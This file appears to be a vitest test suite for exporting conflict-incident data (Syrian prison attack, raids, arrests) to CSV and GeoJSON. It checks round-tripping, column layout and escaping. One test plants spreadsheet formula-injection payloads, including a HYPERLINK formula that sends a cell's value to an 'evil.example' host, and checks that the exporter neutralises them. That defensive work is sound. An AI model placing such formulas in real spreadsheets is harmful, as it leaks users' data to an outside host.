import { join } from "node:path";
import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { exportGeoJson, exportSheets } from "../../../src/core/export-sheets.ts";
import type { IncidentCollection, IncidentFeature } from "../../../src/core/incident.ts";
import { SHEET_COLUMNS, type SheetName } from "../../../src/core/sheet-columns.ts";
import { buildIncidents, type SheetTexts } from "../../../src/pipeline/index.ts";
import { loadReference, readSheets } from "../../../src/pipeline/node/load.ts";

/** Fixed "today", so the fixture dates never become future dates. */
const TODAY = "2026-01-15";
const reference = loadReference();
const ROOT = join(import.meta.dirname, "../../..");

/**
 * Sheets made for this test: text with commas, quotes, line breaks and Arabic; day, month and year dates;
 * a date range; two incidents at one place on different points (one with a lat/lon override); a
 * contested incident with figures; an actor whose parent plays no part; an outlet with a URL.
 */
const TRICKY: SheetTexts = {
  "places.csv": [
    "id,name_en,name_ar,aliases,lat,lon,kind,governorate,coord_source",
    "ghuwayran,Ghuwayran,غويران,Ghweiran;غويران,36.4752,40.7411,neighbourhood,,fixture",
    'raqqa,"Raqqa, city",الرقة,Ar-Raqqah,35.9528,39.0079,city,,fixture',
    "abu-hamam,Abu Hamam,أبو حمام,,34.838,40.733,village,,fixture",
  ].join("\n"),
  "actors.csv": [
    "id,name_en,name_ar,aliases,kind,parent,color",
    "sdf,Syrian Democratic Forces,قوات سوريا الديمقراطية,SDF;QSD;قسد,armed-group,,#e6b800",
    "asayish,Asayish,الأسايش,Asayesh,security-force,sdf,#c49a00",
    "isis,Islamic State,تنظيم الدولة الإسلامية,ISIS;داعش,armed-group,,#222222",
    "sohr,Syrian Observatory for Human Rights,المرصد السوري لحقوق الإنسان,SOHR,monitor,,#5577aa",
  ].join("\n"),
  "sources.csv": [
    "id,outlet_en,outlet_ar,published,published_precision,language,url,affiliation_en,affiliation_ar,file",
    'src-001,North Pulse,نورث برس,2022-01-25,day,ar,https://example.org/a?x=1&y=2,"close to the SDF-led administration, says ""it""",مقرب من الإدارة الذاتية,001.txt',
    "src-002,unidentified outlet,منفذ غير محدد,2023-05,month,ar,,,,",
    "src-003,Monitor,المرصد,2021,year,en,,,,",
  ].join("\n"),
  "incidents.csv": [
    "id,title_en,title_ar,summary_en,summary_ar,date_start,date_end,date_precision,place,lat,lon,location_precision,radius_km,event_type,perpetrators,targets",
    'ghuwayran-prison-attack-2022,"Assault on the ""Ghuwayran"" prison",هجوم على سجن غويران,"Fighters attacked the prison, according to the SDF;\nfighting lasted days.","هاجم مسلحون السجن بحسب قسد، واستمر القتال أياماً.",2022-01-20,2022-01-30,day,ghuwayran,,,town,2,prison-break,isis,sdf;asayish',
    "ghuwayran-raid-2022,Raid near Ghuwayran,مداهمة قرب غويران,A raid east of the prison.,مداهمة شرق السجن.,2022-02-03,,day,ghuwayran,36.49,40.79,village,1.5,raid,asayish,isis",
    "raqqa-arrests-2023-05,Arrests in Raqqa,اعتقالات في الرقة,Security forces detained several people.,احتجزت قوى الأمن عدة أشخاص.,2023-05,2023-06,month,raqqa,,,town,5,arrest,asayish,",
    "desert-clash-2021,=Clash in the desert,اشتباك في البادية,A clash somewhere in the desert.,اشتباك في مكان ما من البادية.,2021,,year,abu-hamam,34.7,40.8,district,15,armed-clash,isis,sdf",
  ].join("\n"),
  "claims.csv": [
    "id,incident,claimant,source,stance,claim_en,claim_ar,killed,injured,captured",
    'ghuwayran-sdf,ghuwayran-prison-attack-2022,sdf,src-001,asserts,"The SDF says it retook the prison, with 300 dead.",تقول قسد إنها استعادت السجن.,٣٠٠,0,',
    "ghuwayran-isis,ghuwayran-prison-attack-2022,isis,src-001,disputes,ISIS claims many inmates escaped.,يدعي التنظيم فرار كثير من السجناء.,,,",
    "raid-asayish,ghuwayran-raid-2022,asayish,src-001,asserts,The Asayish report a raid.,تفيد الأسايش بمداهمة.,,,2",
    "raqqa-asayish,raqqa-arrests-2023-05,asayish,src-002,asserts,The Asayish say they arrested a cell.,تقول الأسايش إنها اعتقلت خلية.,,,4",
    "desert-sohr,desert-clash-2021,sohr,src-003,denies,SOHR denies the clash took place.,ينفي المرصد وقوع الاشتباك.,2,1,",
  ].join("\n"),
};

function build(sheets: SheetTexts): IncidentCollection {
  const result = buildIncidents(sheets, reference, { today: TODAY });
  expect(
    result.errors.map((error) => `${error.file} ${error.row} ${error.column}: ${error.message}`),
  ).toEqual([]);
  if (!result.collection) throw new Error("the sheets did not build");
  return result.collection;
}

/** Reloads exported sheets through the pipeline. */
function reload(files: Record<SheetName, string>): IncidentCollection {
  return build(files);
}

function byId(features: readonly IncidentFeature[]): Map<string, IncidentFeature> {
  return new Map(features.map((feature) => [feature.properties.id, feature]));
}

function byIncidentId(a: IncidentFeature | undefined, b: IncidentFeature | undefined): number {
  return (a?.properties.id ?? "").localeCompare(b?.properties.id ?? "");
}

function rowsOf(csv: string): Record<string, string>[] {
  return Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ""), {
    header: true,
    skipEmptyLines: true,
  }).data;
}

describe("exportSheets", () => {
  const original = build(TRICKY);
  const all = original.features.map((_, index) => index);

  it("reloads through the pipeline to the same incidents: ids, dates, places, points, actors and claims", () => {
    const reloaded = reload(exportSheets(original, all));
    expect(reloaded.features).toEqual(original.features);
  });

  it("exports only the chosen incidents, in the order given, and they reload unchanged", () => {
    const chosen = original.features.findIndex((f) => f.properties.id === "ghuwayran-raid-2022");
    const other = original.features.findIndex((f) => f.properties.id === "desert-clash-2021");
    const files = exportSheets(original, Uint32Array.from([other, chosen]));
    expect(rowsOf(files["incidents.csv"]).map((row) => row.id)).toEqual([
      "desert-clash-2021",
      "ghuwayran-raid-2022",
    ]);
    const reloaded = byId(reload(files).features);
    expect([...reloaded.keys()].sort()).toEqual(["desert-clash-2021", "ghuwayran-raid-2022"]);
    for (const [id, feature] of reloaded) expect(feature).toEqual(byId(original.features).get(id));
  });

  it("brings along exactly the sources, actors and places the chosen incidents need", () => {
    const chosen = original.features.findIndex((f) => f.properties.id === "raqqa-arrests-2023-05");
    const files = exportSheets(original, [chosen]);
    expect(rowsOf(files["sources.csv"]).map((row) => row.id)).toEqual(["src-002"]);
    expect(rowsOf(files["places.csv"]).map((row) => row.id)).toEqual(["raqqa"]);
    // asayish acts and claims; sdf comes along as its parent so the `parent` reference stays valid.
    const actors = rowsOf(files["actors.csv"]);
    expect(actors.map((row) => row.id)).toEqual(["asayish", "sdf"]);
    expect(actors[0]).toMatchObject({ aliases: "Asayesh", kind: "security-force", parent: "sdf" });
    expect(rowsOf(files["claims.csv"]).map((row) => row.id)).toEqual(["raqqa-asayish"]);
  });

  it("writes every sheet with exactly the columns of data/README.md, UTF-8 with a byte order mark", () => {
    const files = exportSheets(original, all);
    for (const [name, columns] of Object.entries(SHEET_COLUMNS)) {
      const text = files[name as SheetName];
      expect(text.startsWith("\uFEFF")).toBe(true);
      expect(text.slice(1).split("\n")[0]).toBe(columns.join(","));
    }
  });

  it("keeps text with commas, quotes, line breaks and Arabic intact", () => {
    const rows = rowsOf(exportSheets(original, all)["incidents.csv"]);
    const attack = rows.find((row) => row.id === "ghuwayran-prison-attack-2022");
    expect(attack?.title_en).toBe('Assault on the "Ghuwayran" prison');
    expect(attack?.summary_en).toBe(
      "Fighters attacked the prison, according to the SDF;\nfighting lasted days.",
    );
    expect(attack?.summary_ar).toBe("هاجم مسلحون السجن بحسب قسد، واستمر القتال أياماً.");
  });

  it("puts a ' before each cell a spreadsheet would run as a formula, and the ' is gone on reload", () => {
    const hostile = {
      ...TRICKY,
      "claims.csv": (TRICKY["claims.csv"] ?? "")
        .replace(
          "ISIS claims many inmates escaped.",
          '"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"',
        )
        .replace("The Asayish report a raid.", "@SUM(1+1)")
        .replace("SOHR denies the clash took place.", "-2+3 dead"),
    };
    const exported = build(hostile);
    const files = exportSheets(exported, [...exported.features.keys()]);
    const claims = rowsOf(files["claims.csv"]).map((row) => row.claim_en);
    expect(claims).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
    expect(claims).toContain("'@SUM(1+1)");
    expect(claims).toContain("'-2+3 dead");
    const incidents = rowsOf(files["incidents.csv"]);
    expect(incidents.map((row) => row.title_en)).toContain("'=Clash in the desert");
    // Plain negative numbers are data: no ' (the fixture has none, so check a longitude the export writes).
    for (const row of incidents) expect(row.lon ?? "").not.toMatch(/^'/);
    expect(reload(files).features).toEqual(exported.features);
  });

  it("gives a place row the point its incidents share, and an override only to incidents elsewhere", () => {
    const files = exportSheets(original, all);
    const ghuwayran = rowsOf(files["places.csv"]).find((row) => row.id === "ghuwayran");
    const incidents = rowsOf(files["incidents.csv"]);
    const attack = incidents.find((row) => row.id === "ghuwayran-prison-attack-2022");
    const raid = incidents.find((row) => row.id === "ghuwayran-raid-2022");
    expect([ghuwayran?.lat, ghuwayran?.lon]).toEqual(["36.4752", "40.7411"]);
    expect([attack?.lat, attack?.lon]).toEqual(["", ""]);
    expect([raid?.lat, raid?.lon]).toEqual(["36.49", "40.79"]);
  });

  it("writes five sheets with headers only when nothing is chosen", () => {
    const files = exportSheets(original, []);
    for (const name of Object.keys(SHEET_COLUMNS) as SheetName[]) expect(rowsOf(files[name])).toEqual([]);
  });

  it("reloads the pipeline's own valid fixture unchanged", () => {
    const fixture = build(readSheets(join(ROOT, "test/fixtures/sheets/valid-minimal")));
    const reloaded = reload(exportSheets(fixture, [...fixture.features.keys()]));
    expect(reloaded.features).toEqual(fixture.features);
  });

  it("reloads the curated incident sheet unchanged", () => {
    const curated = build(readSheets(join(ROOT, "data")));
    expect(curated.features.length).toBeGreaterThan(0);
    const reloaded = reload(exportSheets(curated, [...curated.features.keys()]));
    expect(reloaded.features).toEqual(curated.features);
  });

  it("reloads any filtered subset of the curated sheet to exactly those incidents", () => {
    const curated = build(readSheets(join(ROOT, "data")));
    const indexes = fc.uniqueArray(fc.nat({ max: curated.features.length - 1 }), { minLength: 1 });
    fc.assert(
      fc.property(indexes, (chosen) => {
        const reloaded = byId(reload(exportSheets(curated, chosen)).features);
        const expected = chosen.map((index) => curated.features[index]);
        expect([...reloaded.values()].sort(byIncidentId)).toEqual(expected.sort(byIncidentId));
      }),
      { numRuns: 40 },
    );
  });
});

describe("exportGeoJson", () => {
  const original = build(TRICKY);

  it("writes the chosen incidents with their claims and sources, and metadata narrowed to them", () => {
    const chosen = original.features.findIndex((f) => f.properties.id === "raqqa-arrests-2023-05");
    const exported = JSON.parse(exportGeoJson(original, [chosen])) as IncidentCollection;
    expect(exported.type).toBe("FeatureCollection");
    expect(exported.features).toEqual([original.features[chosen]]);
    expect(exported.features[0]?.properties.claims[0]?.source.outlet.en).toBe("unidentified outlet");
    expect(exported.meta.sources.map((source) => source.id)).toEqual(["src-002"]);
    expect(exported.meta.actors.map((actor) => actor.id)).toEqual(["asayish"]);
    expect(exported.meta.event_types.map((type) => type.id)).toEqual(["arrest"]);
    const [lon, lat] = original.features[chosen]?.geometry.coordinates ?? [];
    expect(exported.bbox).toEqual([lon, lat, lon, lat]);
  });

  it("gives the same bytes for the same view, one feature per line", () => {
    const indexes = Uint32Array.from([0, 2, 3]);
    const text = exportGeoJson(original, indexes);
    expect(exportGeoJson(original, indexes)).toBe(text);
    expect(text.split("\n").filter((line) => line.startsWith('{"type":"Feature"'))).toHaveLength(3);
  });

  it("writes a valid empty collection when nothing is chosen", () => {
    const exported = JSON.parse(exportGeoJson(original, []));
    expect(exported.features).toEqual([]);
    expect(exported.bbox).toBeUndefined();
  });
});
